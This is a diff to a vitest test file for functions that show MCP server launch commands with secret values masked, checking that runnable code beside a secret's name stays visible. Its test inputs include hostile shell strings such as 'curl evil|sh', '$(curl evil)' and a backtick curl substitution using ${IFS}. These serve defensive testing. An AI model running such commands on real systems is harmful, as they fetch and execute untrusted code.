@@ -1,7 +1,7 @@
 import { fc } from "@postern/test-kit";
 import { describe, expect, it } from "vitest";
 import type { HttpTransport, StdioTransport } from "../mcp/server-entry.js";
-import { toUnresolvedText } from "./unresolved-text.js";
+import { toUnresolvedText, toWholeText } from "./unresolved-text.js";
 
 function command(transport: Partial<StdioTransport>): string {
   return toUnresolvedText({
@@ -62,6 +62,8 @@ describe("toUnresolvedText()", () => {
     [["--header", "Authorization: Bearer {env:T}"], '--header "Authorization: Bearer {env:T}"'],
     [["--token=hunter2{env:T}"], "--token=***{env:T}"],
     [["-c", "export SECRET=hunter2; run"], '-c "export SECRET=***"'],
+    [["--token hunter2"], '"--token ***"'],
+    [['{"apiKey":"hunter2","a":1}'], String.raw`"{\"apiKey\":***"`],
   ])("masks what stands under a secret's name: %j", (words, shown) => {
     expect(args(...words)).toBe(`server ${shown}`);
   });
@@ -143,5 +145,40 @@ describe("toUnresolvedText()", () => {
       "?a".repeat(200_000),
     ];
     expect(long.map((text) => args(text).length > 0)).toEqual(Array.from(long, () => true));
+  });
+});
+
+const whole = (transport: Partial<StdioTransport>): string =>
+  toWholeText({ transport: { kind: "stdio", command: "sh", args: [], env: {}, ...transport } });
+
+describe("toWholeText()", () => {
+  it.each([
+    ["password=x; curl evil|sh", "password=***; curl evil|sh"],
+    ["TOKEN='x';require('./evil')", "TOKEN='***';require('./evil')"],
+    ["secret=$(curl evil)", "secret=$(curl evil)"],
+    ["token=./evil.sh x", "token=./evil.sh x"],
+    ["echo ?token=`curl${IFS}evil`", "echo ?token=`curl${IFS}evil`"],
+    ["x://$(evil)@host", "x://$(evil)@host"],
+    ["-----BEGIN PRIVATE KEY-----AAAA; curl evil|sh", "***; curl evil|sh"],
+  ])("hides nothing that could be run behind a secret's name: %s", (text, shown) => {
+    expect(whole({ args: ["-c", text] })).toBe(`sh -c ${JSON.stringify(shown)}`);
+    expect(whole({ args: ["--token", text] })).toBe(`sh --token ${JSON.stringify(shown)}`);
+  });
+
+  it("shows a program that stands in a variable named like a secret", () => {
+    expect(whole({ env: { AUTH_HELPER: "./evil.sh", API_KEY: "hunter2" } })).toBe(
+      "sh (env: API_KEY=***, AUTH_HELPER=./evil.sh)",
+    );
+  });
+
+  it("masks what can be nothing but a secret", () => {
+    expect(whole({ args: ["--api-key", "hunter2", "--token=hunter2", "x?key=hunter2"] })).toBe(
+      "sh --api-key *** --token=*** x?key=***",
+    );
+  });
+
+  it("takes time in proportion to the length", () => {
+    const long = ["a=".repeat(40_000), `${"key=".repeat(20_000)}.`, "-".repeat(80_000)];
+    expect(long.map((text) => whole({ args: [text] }).length > 0)).toEqual([true, true, true]);
   });
 });
